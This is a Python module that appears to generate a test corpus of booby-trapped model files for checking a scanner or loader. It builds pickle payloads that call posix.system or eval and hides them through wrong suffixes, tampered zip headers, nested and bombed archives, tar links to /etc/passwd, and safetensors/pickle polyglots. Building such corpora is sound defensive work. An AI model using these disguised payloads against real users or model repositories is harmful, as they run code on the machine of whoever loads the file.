"""Attacks on whoever opens a file: it is not what it seems, or not to everybody."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile

from attacks.attack import Collection
from attacks.streams import (
    STOP,
    blob,
    call,
    command,
    legacy_stream,
    name,
    npy,
    patched,
    payload,
    seven_zip_of,
    state_dict,
    system,
    tar_of,
    text,
    torch_records,
    torch_zip,
    u8,
    zip_of,
)

ATTACKS = Collection([])
attack = ATTACKS

# --- Suffixes ------------------------------------------------------------------------------------

for suffix in (".txt", ".safetensors", ".png", ".json", ".npy", ".gguf", ".h5", ".md", ".7z", ""):
    ATTACKS.add(
        "wrong suffix",
        "dangerous",
        f"a pickle called {suffix[1:] or 'nothing'}",
        payload,
        suffix=suffix,
        proof="pickle",
    )
for suffix in (".txt", ".zip", ".safetensors", ".gz"):
    ATTACKS.add(
        "wrong suffix",
        "dangerous",
        f"an archive called {suffix[1:]}",
        lambda marker: torch_zip(payload(marker)),
        suffix=suffix,
    )


@attack("wrong suffix", "dangerous", suffix=".txt", proof="pickle")
def a_pickle_of_text_only(marker: str) -> bytes:
    return f"cposix\nsystem\n(S'{command(marker)}'\ntR.".encode()


@attack("wrong suffix", "dangerous", suffix=".txt", proof="pickle")
def a_pickle_that_starts_as_prose(marker: str) -> bytes:
    words = b"Very well trained, this model is.\n0" * 40
    return words + f"cposix\nsystem\n(S'{command(marker)}'\ntR.".encode()


@attack("wrong suffix", "dangerous", suffix=".bin", proof="pickle")
def a_pickle_that_starts_as_nothing_known(marker: str) -> bytes:
    return text("x" * 600) + b"0" + system(marker) + STOP


@attack("wrong suffix", "dangerous", suffix=".bin", proof="pickle")
def a_pickle_without_a_protocol(marker: str) -> bytes:
    return b"\x8c\x05posix\x8c\x06system\x93" + text(command(marker)) + b"\x85R."


# --- Two views of one zip ------------------------------------------------------------------------


@attack("wrong checksum", "ambiguous", suffix=".pth")
def a_wrong_checksum_of_the_pickle(marker: str) -> bytes:
    return patched(torch_zip(payload(marker)), "archive/data.pkl", "crc", b"\x01\x02\x03\x04")


@attack("wrong checksum", "ambiguous", suffix=".pth")
def a_wrong_checksum_in_the_directory(marker: str) -> bytes:
    archive = torch_zip(state_dict())
    return patched(archive, "archive/data/0", "crc", b"\x01\x02\x03\x04", where="central")


@attack("wrong checksum", "dangerous", suffix=".pth", proof="torch")
def no_checksum(marker: str) -> bytes:
    return patched(torch_zip(payload(marker)), "archive/data.pkl", "crc", bytes(4))


for bit, title in ((0, "encryption"), (6, "strong encryption"), (13, "masked headers")):
    for where in ("both", "local", "central"):
        ATTACKS.add(
            "encryption flags",
            "dangerous",
            f"{title} in {where}",
            lambda marker, bit=bit, where=where: patched(
                torch_zip(payload(marker)),
                "archive/data.pkl",
                "flags",
                struct.pack("<H", 1 << bit),
                where=where,
            ),
            suffix=".pth",
        )


@attack("encryption flags", "ambiguous", suffix=".pth")
def encryption_without_a_payload(marker: str) -> bytes:
    return patched(torch_zip(state_dict()), "archive/data.pkl", "flags", b"\x01\x00")


@attack("local and central names that differ", "dangerous", suffix=".pth", proof="torch")
def another_local_name(marker: str) -> bytes:
    archive = torch_zip(payload(marker))
    return patched(archive, "archive/data.pkl", "name", b"archive/data.txt", where="local")


@attack("local and central names that differ", "ambiguous", suffix=".pth")
def another_central_name(marker: str) -> bytes:
    archive = torch_zip(state_dict(), [("archive/data.pk1", payload(marker))])
    return patched(archive, "archive/data.pk1", "name", b"archive/data.pkl", where="local")


@attack("local and central names that differ", "ambiguous", suffix=".pth")
def two_names_that_are_exchanged(marker: str) -> bytes:
    archive = torch_zip(state_dict(), [("archive/data.txt", payload(marker))])
    archive = patched(archive, "archive/data.pkl", "name", b"archive/data.xxx", where="local")
    return patched(archive, "archive/data.txt", "name", b"archive/data.pkl", where="local")


@attack("local and central names that differ", "ambiguous", suffix=".pth")
def another_method_in_the_local_header(marker: str) -> bytes:
    archive = torch_zip(state_dict())
    return patched(archive, "archive/data/0", "method", b"\x08\x00", where="local")


@attack("duplicate members", "dangerous", suffix=".pth")
def the_second_of_two_pickles(marker: str) -> bytes:
    return zip_of([*torch_records(state_dict()), ("archive/data.pkl", payload(marker))])


@attack("duplicate members", "ambiguous", suffix=".pth")
def the_first_of_two_pickles(marker: str) -> bytes:
    return zip_of([("archive/data.pkl", payload(marker)), *torch_records(state_dict())])


@attack("duplicate members", "ambiguous", suffix=".pth")
def two_storages_of_one_name(marker: str) -> bytes:
    return zip_of([*torch_records(state_dict()), ("archive/data/0", b"\x7f" * 16)])


@attack("duplicate members", "ambiguous", suffix=".pth")
def two_root_folders(marker: str) -> bytes:
    return zip_of([*torch_records(state_dict()), ("other/data.pkl", payload(marker))])


@attack("case variants", "ambiguous", suffix=".pth")
def a_pickle_in_capitals(marker: str) -> bytes:
    return torch_zip(state_dict(), [("archive/DATA.PKL", payload(marker))])


@attack("case variants", "ambiguous", suffix=".pth")
def a_pickle_in_capitals_that_comes_first(marker: str) -> bytes:
    return zip_of([("archive/DATA.pkl", payload(marker)), *torch_records(state_dict())])


@attack("case variants", "ambiguous", suffix=".pth")
def a_root_in_capitals(marker: str) -> bytes:
    return zip_of([("ARCHIVE/data.pkl", payload(marker)), *torch_records(state_dict())])


for record in (
    "archive/extra.pkl",
    "archive/data/extra.pickle",
    "archive/.data/hidden.pkl",
    "elsewhere/payload.pkl",
    "archive/data.pkl.bak",
    "archive/notes.txt",
    "archive/data/7",
    "archive/run.sh",
):
    ATTACKS.add(
        "hidden pickles",
        "ambiguous",
        f"a pickle in {record}",
        lambda marker, record=record: torch_zip(state_dict(), [(record, payload(marker))]),
        suffix=".pth",
    )


@attack("hidden pickles", "ambiguous", suffix=".pth")
def bytes_between_the_records(marker: str) -> bytes:
    whole = torch_zip(state_dict())
    start = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    hidden = payload(marker).ljust(200, b"\0")
    tail = bytearray(whole[end:])
    tail[16:20] = struct.pack("<I", start + len(hidden))
    return whole[:start] + hidden + whole[start:end] + bytes(tail)


@attack("hidden pickles", "dangerous", suffix=".pth")
def a_packed_pickle(marker: str) -> bytes:
    return zip_of(torch_records(payload(marker)), packed=True)


@attack("no version", "dangerous", suffix=".pth")
def a_payload_without_a_version(marker: str) -> bytes:
    return zip_of([("archive/data.pkl", payload(marker)), ("archive/byteorder", b"little")])


@attack("no version", "ambiguous", suffix=".pth")
def tensors_without_a_version(marker: str) -> bytes:
    return zip_of([record for record in torch_records(state_dict()) if "version" not in record[0]])


@attack("no version", "ambiguous", suffix=".pth")
def a_byte_order_that_does_not_exist(marker: str) -> bytes:
    records = dict(torch_records(state_dict())) | {"archive/byteorder": b"middle"}
    return zip_of(list(records.items()))


# --- Archives in archives ------------------------------------------------------------------------


@attack("archive in an archive", "dangerous", suffix=".7z")
def a_pickle_in_7z(marker: str) -> bytes:
    return seven_zip_of("model.pkl", payload(marker))


@attack("archive in an archive", "dangerous", suffix=".pth")
def a_torch_file_in_7z_called_pth(marker: str) -> bytes:
    return seven_zip_of("model.pth", torch_zip(payload(marker)))


@attack("archive in an archive", "dangerous", suffix=".7z")
def a_pickle_in_7z_packed_with_lzma(marker: str) -> bytes:
    data = payload(marker)
    packed = lzma.compress(
        data, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}]
    )
    properties = b"\x5d" + struct.pack("<I", 1 << 16)
    return seven_zip_of(
        "model.pkl", data, coder=b"\x23\x03\x01\x01\x05" + properties, packed=packed
    )


@attack("archive in an archive", "dangerous", suffix=".zip")
def a_pickle_in_a_zip(marker: str) -> bytes:
    return zip_of([("readme.txt", b"hello"), ("model.pkl", payload(marker))])


@attack("archive in an archive", "dangerous", suffix=".zip")
def a_torch_file_in_a_zip_in_a_zip(marker: str) -> bytes:
    return zip_of([("a.zip", zip_of([("model.pth", torch_zip(payload(marker)))], packed=True))])


@attack("archive in an archive", "dangerous", suffix=".zip")
def a_pickle_without_a_protocol_beside_a_model(marker: str) -> bytes:
    model = ("model.pth", torch_zip(state_dict()))
    call_ = b"\x8c\x05posix\x8c\x06system\x93" + text(command(marker)) + b"\x85R."
    return zip_of([model, ("extra.bin", call_)])


@attack("archive in an archive", "dangerous", suffix=".zip")
def a_pickle_of_text_beside_a_model(marker: str) -> bytes:
    model = ("model.pth", torch_zip(state_dict()))
    prose = b"Very well trained.\n0" + f"cposix\nsystem\n(S'{command(marker)}'\ntR.".encode()
    return zip_of([model, ("readme.txt", prose)], packed=True)


@attack("archive in an archive", "dangerous", suffix=".tar")
def a_pickle_in_a_tar(marker: str) -> bytes:
    return tar_of([("readme.txt", b"hello"), ("model.pkl", payload(marker))])


@attack("archive in an archive", "dangerous", suffix=".tar")
def a_torch_file_in_a_tar(marker: str) -> bytes:
    return tar_of([("model.pth", torch_zip(payload(marker)))])


@attack("archive in an archive", "dangerous", suffix=".tar.gz")
def a_pickle_in_a_packed_tar(marker: str) -> bytes:
    return gzip.compress(tar_of([("model.pkl", payload(marker))]), mtime=0)


for pack, suffix in ((gzip.compress, ".gz"), (bz2.compress, ".bz2"), (lzma.compress, ".xz")):
    ATTACKS.add(
        "archive in an archive",
        "dangerous",
        f"a pickle in {suffix[1:]}",
        lambda marker, pack=pack: pack(payload(marker)),
        suffix=suffix,
    )


@attack("archive in an archive", "dangerous", suffix=".tar", proof="torch")
def the_tar_of_the_oldest_torch(marker: str) -> bytes:
    members = [
        ("sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True}, 2)),
        ("pickle", payload(marker)),
        ("storages", pickle.dumps(0, 2) + pickle.dumps([], 2)),
        ("tensors", pickle.dumps(0, 2)),
    ]
    return tar_of(members)


@attack("archive in an archive", "dangerous", suffix=".tar", proof="torch")
def in_the_storages_of_the_oldest_torch(marker: str) -> bytes:
    members = [
        ("sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True}, 2)),
        ("pickle", pickle.dumps({}, 2)),
        ("storages", b"\x80\x02" + system(marker) + b"0K\x00." + pickle.dumps([], 2)),
        ("tensors", pickle.dumps(0, 2)),
    ]
    return tar_of(members)


@attack("archive in an archive", "ambiguous", suffix=".tar")
def a_link_out_of_a_tar(marker: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("model.pkl")
        info.type, info.linkname = tarfile.SYMTYPE, "../../../etc/passwd"
        archive.addfile(info)
        info = tarfile.TarInfo("weights.pkl")
        info.type, info.linkname = tarfile.LNKTYPE, "/etc/passwd"
        archive.addfile(info)
    return buffer.getvalue()


@attack("archive in an archive", "ambiguous", suffix=".zip")
def a_zip_that_unpacks_to_gigabytes(marker: str) -> bytes:
    return zip_of([("archive/data.pkl", bytes(1 << 28)), ("archive/version", b"3")], packed=True)


@attack("archive in an archive", "ambiguous", suffix=".zip")
def zips_in_zips(marker: str) -> bytes:
    data = payload(marker)
    for level in range(200):
        data = zip_of([(f"{level}.zip" if level else "model.pkl", data)])
    return data


# --- Broken behind the payload -------------------------------------------------------------------


@attack("cut off after the payload", "dangerous", proof="pickle")
def no_stop(marker: str) -> bytes:
    return payload(marker)[:-1]


@attack("cut off after the payload", "dangerous", proof="pickle")
def an_opcode_that_does_not_exist(marker: str) -> bytes:
    return payload(marker)[:-1] + b"\xff" * 64


@attack("cut off after the payload", "dangerous", proof="pickle")
def a_pop_of_nothing(marker: str) -> bytes:
    return payload(marker)[:-1] + b"0000."


@attack("cut off after the payload", "dangerous", suffix=".pth", proof="torch")
def a_broken_pickle_in_an_archive(marker: str) -> bytes:
    return torch_zip(payload(marker)[:-1] + b"\xff\xff")


@attack("cut off after the payload", "dangerous", suffix=".pth", proof="torch")
def a_broken_stream(marker: str) -> bytes:
    return legacy_stream(root=payload(marker)[:-1])


@attack("cut off after the payload", "dangerous", suffix=".7z")
def a_broken_pickle_in_7z(marker: str) -> bytes:
    return seven_zip_of("model.pkl", payload(marker)[:-1] + b"\xff\xff")


@attack("cut off after the payload", "dangerous", suffix=".pth")
def an_archive_without_its_end(marker: str) -> bytes:
    return torch_zip(payload(marker))[:-30]


@attack("cut off after the payload", "dangerous", suffix=".pth")
def an_archive_that_is_cut_in_its_records(marker: str) -> bytes:
    return torch_zip(payload(marker))[:120]


@attack("cut off after the payload", "dangerous", proof="pickle")
def a_payload_in_protocol_0_that_breaks(marker: str) -> bytes:
    return f"cposix\nsystem\n(S'{command(marker)}'\ntRnonsense".encode()


# --- Polyglots -----------------------------------------------------------------------------------


def _tar_with_name(start: bytes) -> bytearray:
    """Return a tar archive of one empty file whose name is these bytes."""
    block = bytearray(tar_of([("a", b"")]))
    block[0:100] = start.ljust(100, b"\0")
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block[:512])
    return block


@attack("polyglot", "dangerous", suffix=".pth", proof="pickle")
def a_tar_whose_name_is_a_pickle(marker: str) -> bytes:
    return bytes(_tar_with_name(payload(marker)))


@attack("polyglot", "dangerous", suffix=".pth")
def a_tar_in_front_of_an_archive(marker: str) -> bytes:
    return zip_of(torch_records(state_dict()), prefix=tar_of([("pickle", payload(marker))]))


@attack("polyglot", "ambiguous", suffix=".pth")
def a_harmless_pickle_that_is_a_tar(marker: str) -> bytes:
    data = _tar_with_name(b"\x80\x02}0}.")
    return bytes(data)


@attack("polyglot", "dangerous", suffix=".pth", proof="pickle")
def a_pickle_in_front_of_an_archive(marker: str) -> bytes:
    return zip_of(torch_records(state_dict()), prefix=payload(marker))


@attack("polyglot", "dangerous", suffix=".pth")
def an_archive_behind_a_harmless_pickle(marker: str) -> bytes:
    return b"\x80\x02}." + torch_zip(payload(marker))


@attack("polyglot", "dangerous", suffix=".pth")
def an_archive_behind_an_archive(marker: str) -> bytes:
    return torch_zip(state_dict()) + torch_zip(payload(marker))


@attack("polyglot", "ambiguous", suffix=".pth")
def a_pickle_behind_an_archive(marker: str) -> bytes:
    return torch_zip(state_dict()) + payload(marker)


def _safetensors(data: bytes, header: bytes = b"") -> bytes:
    text = header or b'{"w":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (
        len(data),
        len(data),
    )
    return u8(len(text)) + text + data


@attack("polyglot", "dangerous", suffix=".safetensors")
def an_archive_behind_safetensors(marker: str) -> bytes:
    return _safetensors(bytes(4)) + torch_zip(payload(marker))


@attack("polyglot", "dangerous", suffix=".safetensors")
def an_archive_in_the_last_tensor_of_safetensors(marker: str) -> bytes:
    # Programs that look for a zip directory at the end of a file find one.
    data = bytes(64)
    start = len(_safetensors(data)) + 40
    archive = zip_of(torch_records(payload(marker)), prefix=bytes(start))[start:]
    for _ in range(3):
        start = len(_safetensors(archive)) - len(archive)
        archive = zip_of(torch_records(payload(marker)), prefix=bytes(start))[start:]
    return _safetensors(archive)


LEAP = 122
"""A length that is a character too: SHORT_BINSTRING skips that many bytes."""


@attack("polyglot", "dangerous", suffix=".bin", proof="pickle")
def safetensors_that_run_as_a_pickle(marker: str) -> bytes:
    # The header's length starts with 0x58, BINUNICODE, whose own length are the bytes after it.
    # Behind that text, in the filler of the header, strings leap over the rest of it.
    opening = b'{"__metadata__":{"a":"'
    closing = b'"},"w":{"dtype":"U8","shape":[512],"data_offsets":[0,512]}}'
    for length in range(len(opening) + 3, 1000):
        nbytes = 0x58 + 256 * length
        position = length - 3
        leaps = (nbytes - position - 2) // (LEAP + 3)
        last = position + leaps * (LEAP + 3)
        if nbytes - LEAP <= last + 2 <= nbytes - len(closing):
            break
    filler = (b"U" + bytes([LEAP]) + b"x" * LEAP + b"0") * leaps + b"U" + bytes([LEAP])
    header = (opening.ljust(position, b"x") + filler).ljust(nbytes - len(closing), b"x") + closing
    data = bytes(last + 2 + LEAP - nbytes) + b"0" + payload(marker)[2:]
    return u8(nbytes) + header + data.ljust(512, b"\0")


@attack("polyglot", "ambiguous", suffix=".npy")
def a_pickle_behind_an_array(marker: str) -> bytes:
    return npy(bytes(4), "<f4", "(1,)") + payload(marker)


# --- A computed magic number ---------------------------------------------------------------------


@attack("computed magic", "dangerous", suffix=".pth", proof="torch")
def a_magic_number_that_is_evaluated(marker: str) -> bytes:
    number = f"[open({marker!r}, 'w'), 0x1950a86a20f9469cfc6c][1]"
    return legacy_stream(magic=b"\x80\x02" + call(name("builtins", "eval"), text(number)) + STOP)


@attack("computed magic", "ambiguous", suffix=".pth", proof="torch")
def a_magic_number_that_is_parsed(marker: str) -> bytes:
    digits = text(str(0x1950A86A20F9469CFC6C))
    magic = b"\x80\x03" + call(name("builtins", "int"), digits) + STOP
    return legacy_stream(magic=magic, root=payload(marker))


@attack("computed magic", "ambiguous", suffix=".pth", proof="torch")
def a_magic_number_that_is_added_up(marker: str) -> bytes:
    half = pickle.dumps(0x1950A86A20F9469CFC6C // 2, 2)[2:-1]
    magic = b"\x80\x02" + call(name("_operator", "add"), half, half) + STOP
    return legacy_stream(magic=magic, root=payload(marker))


@attack("computed magic", "dangerous", suffix=".pth", proof="torch")
def a_magic_number_behind_a_payload(marker: str) -> bytes:
    number = pickle.dumps(0x1950A86A20F9469CFC6C, 2)[2:]
    return legacy_stream(magic=b"\x80\x02" + system(marker) + b"0" + number)


# --- Arrays of objects ---------------------------------------------------------------------------


@attack("object arrays", "dangerous", suffix=".npy", proof="numpy")
def an_array_of_objects(marker: str) -> bytes:
    return npy(payload(marker))


@attack("object arrays", "dangerous", suffix=".npy", proof="numpy")
def an_array_with_a_field_of_objects(marker: str) -> bytes:
    header = "{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    padded = header.ljust(117) + "\n"
    start = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(padded)) + padded.encode()
    return start + payload(marker)


@attack("object arrays", "dangerous", suffix=".npz")
def an_archive_of_arrays_of_objects(marker: str) -> bytes:
    return zip_of([("weights.npy", npy(payload(marker)))])


@attack("object arrays", "dangerous", suffix=".npz")
def a_packed_archive_of_arrays_of_objects(marker: str) -> bytes:
    whole = npy(bytes(16), "<f4", "(4,)")
    return zip_of([("a.npy", whole), ("b.npy", npy(payload(marker)))], packed=True)


@attack("object arrays", "ambiguous", suffix=".npz")
def a_pickle_called_npy_in_an_archive(marker: str) -> bytes:
    return zip_of([("weights.npy", payload(marker))])


@attack("object arrays", "dangerous", suffix=".npy", proof="numpy")
def a_pickle_instead_of_an_array(marker: str) -> bytes:
    return payload(marker)


@attack("object arrays", "dangerous", suffix=".npy")
def an_array_of_objects_that_is_broken(marker: str) -> bytes:
    return npy(payload(marker)[:-1])


@attack("object arrays", "dangerous", suffix=".joblib")
def an_object_array_of_joblib(marker: str) -> bytes:
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
    wrapper += text("subclass") + name("numpy", "ndarray")
    wrapper += text("shape") + b"K\x01\x85" + text("order") + text("C")
    wrapper += text("dtype") + call(name("numpy", "dtype"), text("O8")) + b"ub"
    return b"\x80\x03" + wrapper + payload(marker) + STOP


@attack("object arrays", "dangerous", suffix=".joblib", proof="pickle")
def a_joblib_file_without_arrays(marker: str) -> bytes:
    return b"\x80\x03" + blob(b"x") + b"0" + payload(marker)[2:]
